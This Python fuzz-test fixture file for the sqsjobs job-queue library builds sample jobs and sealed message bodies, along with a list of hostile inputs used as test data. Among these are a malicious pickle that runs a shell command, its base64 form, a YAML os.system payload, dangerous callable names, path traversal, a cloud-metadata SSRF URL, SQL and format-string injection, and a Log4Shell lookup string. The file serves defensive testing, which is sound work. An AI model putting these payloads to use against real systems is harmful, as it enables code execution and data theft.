"""Where inputs come from: jobs, the messages that carry them, and what people send who mean harm.

The same in every process, so that a seed gives the same input everywhere.
"""

from __future__ import annotations

import json
from base64 import b64encode
from dataclasses import dataclass
from random import Random
from typing import Any, Final
from unittest import mock

from tests.fuzz.driving import result_of

from sqsjobs import AesKey, Ed25519Key, Encryption, HmacKey, Signing
from sqsjobs.job import Job, JobId
from sqsjobs.sealing import Sealing

__all__ = [
    "EVIL",
    "EVIL_NAMES",
    "JOBS",
    "LAYERS",
    "NOW",
    "SEALED",
    "UNLOADED",
    "Clock",
    "Layered",
    "large_text",
    "many_values",
]

NOW: Final = 1_763_000_000.0
_HMAC, _ED25519 = HmacKey("2026-11", b"h" * 32), Ed25519Key("web-1", b"d" * 32)
_AES = AesKey("e-1", b"a" * 32)


class Clock:
    """A clock that stands."""

    def wall(self) -> float:
        return NOW

    def now(self) -> float:
        return NOW


def _layers(**layers: Any) -> Sealing:
    return Sealing(clock=Clock(), **layers)


LAYERS: Final = {
    "plain": _layers(),
    "signed": _layers(signing=Signing([_HMAC, _ED25519])),
    "signed by ed25519": _layers(signing=Signing([_ED25519, _HMAC])),
    "encrypted": _layers(encryption=Encryption([_AES])),
    "encrypted and signed": _layers(signing=Signing([_HMAC, _ED25519]), encryption=Encryption([_AES])),
    "compressed": _layers(compress_over=0),
    "all": _layers(signing=Signing([_HMAC]), encryption=Encryption([_AES]), compress_over=0),
}
"""Layers by name; each opens what it has sealed, and nothing that it has not."""


def _job(number: int, task: str, arguments: object, **fields: Any) -> Job:
    return Job(
        id=JobId(f"0199a1c2-7d1e-7b43-9a52-{number:012x}"),
        task=task,
        queue=fields.pop("queue", "work"),
        arguments=json.dumps(arguments).encode(),
        enqueued_at=fields.pop("enqueued_at", NOW),
        **fields,
    )


JOBS: Final = (
    _job(1, "add", {"a": 1, "b": -2}),
    _job(2, "resize", {"key": "a.png", "width": 200, "modes": ["fast", "exact"]}, headers={"traceparent": "00-1-2-01"}),
    _job(
        3,
        "book",
        {"order": {"id": "6f1c5f4e-1c1b-4a57-9e0e-0d3a1f9a7c11", "at": "2026-11-21T12:00:00Z", "total": "9.90"}},
    ),
    _job(4, "anything", {"value": [None, True, {"k": [1.5e3, "\u00e9\u20ac\U0001f600"]}]}, epoch=3, attempts=2),
    _job(5, "add", {"a": 1, "b": 2}, not_before=NOW + 60, group="tenant-1", callback="https://shop.example/hooks?a=b"),
    _job(6, "anything", {"value": {f"k{n}": [n] * 9 for n in range(12)}}),
)


@dataclass(frozen=True, slots=True)
class Layered:
    """A message body, and the layers that sealed it."""

    layers: str
    job: Job
    body: str


def _sealed() -> tuple[Layered, ...]:
    chance = Random(1)
    with mock.patch("sqsjobs.sealing.message_key.secrets.token_bytes", chance.randbytes):
        return tuple(Layered(name, job, result_of(layers.seal(job))) for name, layers in LAYERS.items() for job in JOBS)


SEALED: Final = _sealed()

_PICKLE: Final = b"cos\nsystem\n(S'touch /tmp/pwned'\ntR."

UNLOADED: Final = frozenset({"no_such_module_9", "sqsjobs.no_such_module_9", "idlelib", "tabnanny"})
"""Modules that nothing here loads: the interpreter tells an audit hook of an import only where it is the first."""

EVIL_NAMES: Final = (
    "os.system",
    "builtins.exec",
    "builtins:__import__",
    "subprocess.Popen",
    "sqsjobs.errors.JobFailed",
    "no_such_module_9.run",
    "no_such_module_9:run",
    "no_such_module_9",
    "sqsjobs.no_such_module_9.run",
    "idlelib.config.IdleConf",
    "tabnanny.check",
)
"""Names by which somebody might look for a function, or a class, if only one lets him."""

EVIL: Final = (
    *EVIL_NAMES,
    "__import__('os').system('id')",
    "{{7*7}}",
    "!!python/object/apply:os.system ['id']",
    _PICKLE.decode(),
    b64encode(_PICKLE).decode(),
    "../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "\r\nHTTP/1.1 200 OK\r\n",
    "\x1b[2J\x1b[31m",
    "\u202e\u2066",
    "%s%n%x" * 8,
    "' OR 1=1 --",
    "${jndi:ldap://x/a}",
    "\x00",
    "\ud800",
    "\ufffe\uffff",
)
"""Texts that somewhere, once, made a program do something."""


def large_text(chance: Random) -> str:
    """Return up to a mebibyte that is made to cost time or memory."""
    size = chance.choice((65_536, 262_144, 1_048_576))
    unit = chance.choice(
        ("[", '{"a":', "]", "[]", "{}", "1", '"', '\\"', "\\", '"[" ', ",", "[" * 60 + "]" * 60, "1e9,", "\u20ac", "\\ud800",
         '"\\u0000",', "-", "0.", " ", '{"sqsjobs":1,', "a" * 99, "\U0001f600" + "a" * 99)
    )  # fmt: skip
    text = unit * (size // len(unit))
    return chance.choice((text, f'{{"sqsjobs":1,"task":"anything","args":{text}', f'{{"sqsjobs":1,"task":"add","args":{{"a":{text}}}}}',
                          f'{{"sqsjobs":1,"task":"{text}"}}', f'{{"sqsjobs":2,"header":"{{}}","content":{json.dumps(text)}}}',
                          f'{{"sqsjobs":1,"task":"anything","args":{many_values(chance)}}}'))  # fmt: skip


def many_values(chance: Random) -> str:
    """Return arguments that are all right, and up to 99,999 values."""
    unit = chance.choice(
        ('{"a":{"b":{}}},', '{"a":1},', "[],", "[[]],", "null,", '"ab",', '"\U0001f600",', "1.5,", '{"abcdefgh":"i"},')
    )
    values = sum(unit.count(sign) for sign in "[{,")
    return f'{{"value":[{unit * (chance.choice((100, 1000, 10_000, 99_990)) // values)}1]}}'
